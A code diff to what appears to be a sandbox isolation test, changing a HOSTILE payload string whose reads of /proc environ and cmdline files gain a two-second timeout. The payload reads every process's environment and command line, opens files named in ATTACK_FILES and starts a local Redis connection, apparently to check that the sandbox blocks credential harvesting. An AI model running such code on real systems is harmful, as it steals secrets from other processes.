@@ -18,21 +18,28 @@ import { createWorkspace, testPipeline, type Workspace } from '../../support/wor
 const HOSTILE = String.raw`
 import { createHmac } from 'node:crypto';
 import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
 import { connect } from 'node:net';
 const found = {
   uid: process.getuid(), gid: process.getgid(), groups: process.getgroups(), home: process.env.HOME,
   read: {}, denied: [],
 };
-const tryRead = (path) => {
-  try { found.read[path] = readFileSync(path, 'latin1'); } catch (error) { found.denied.push(path + ' ' + error.code); }
+// A read of another process's /proc/<pid>/cmdline waits for that process's memory map lock, which a busy
+// process (a browser under test) can hold for long: every read gets 2 s, so one stuck read cannot stop the attack.
+const tryRead = async (path) => {
+  let timer;
+  const late = new Promise((_, reject) => { timer = setTimeout(() => reject(Object.assign(new Error('slow'), { code: 'SLOW' })), 2000); });
+  try { found.read[path] = await Promise.race([readFile(path, 'latin1'), late]); }
+  catch (error) { found.denied.push(path + ' ' + error.code); }
+  finally { clearTimeout(timer); }
 };
-tryRead('/proc/' + process.ppid + '/environ');
-tryRead('/proc/' + process.ppid + '/cmdline');
+await tryRead('/proc/' + process.ppid + '/environ');
+await tryRead('/proc/' + process.ppid + '/cmdline');
 for (const pid of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
-  tryRead('/proc/' + pid + '/environ');
-  tryRead('/proc/' + pid + '/cmdline');
+  await tryRead('/proc/' + pid + '/environ');
+  await tryRead('/proc/' + pid + '/cmdline');
 }
-for (const path of process.env.ATTACK_FILES.split(',').filter(Boolean)) tryRead(path);
+for (const path of process.env.ATTACK_FILES.split(',').filter(Boolean)) await tryRead(path);
 const redis = (commands) => new Promise((resolve) => {
   const socket = connect(Number(process.env.ATTACK_REDIS_PORT), '127.0.0.1');
   let answer = '';
